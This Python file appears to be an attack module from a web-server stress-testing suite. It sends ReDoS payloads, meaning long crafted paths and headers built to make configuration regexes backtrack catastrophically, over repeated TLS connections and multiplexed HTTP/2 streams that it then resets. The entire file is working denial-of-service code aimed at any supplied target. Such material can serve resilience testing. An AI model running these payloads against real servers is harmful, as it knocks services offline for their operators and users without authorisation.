"""Requests whose path or field causes catastrophic backtracking in a regular expression
of the configuration (ReDoS), in location, map, if and rewrite."""

import frames
from attack import Attack

ATTACK = Attack(configurations=("patterns",))
PATHS = [
    b"/nested/" + b"a" * 40 + b"!", b"/map", b"/if", b"/rewrite/" + b"ax" * 500 + b"!",
    # Searches that begin at many places, each of which takes many steps.
    b"/search?" + b"<" * 1200 + b"script" * 50 + b"x" * 5500,
    b"/search?" + b"union" * 750 + b"select" * 560 + b"fram",
    b"/" + (b"a/" * 110 + b"%0a") * 24 + b".phq",
]


# As many requests of one connection as come at once.
STREAMS = range(1, 121, 2)


async def run(target):
    evil = b"X-One: " + b"a" * 40 + b"!\r\n"
    path = b"/search?" + b"union.select" * 600 + b"m"
    together = b"".join(frames.request(stream, frames.head(path)) for stream in STREAMS)

    async def ask(number):
        if number % 8 == 0:
            reader, writer = await target.http2(frames.opening())
            writer.write(together)
            try:
                await frames.until_ended(reader, frames.Parser(), len(STREAMS), resets=True)
            finally:
                writer.transport.abort()
            return
        reader, writer = await target.tls()
        try:
            writer.write(b"GET " + PATHS[number % len(PATHS)] + b" HTTP/1.1\r\nHost: localhost\r\n" + evil + b"\r\n")
            await reader.readuntil(b"\r\n\r\n")
        finally:
            writer.transport.abort()

    return f"{await target.repeat(8, ask)} connections, 8 at a time"
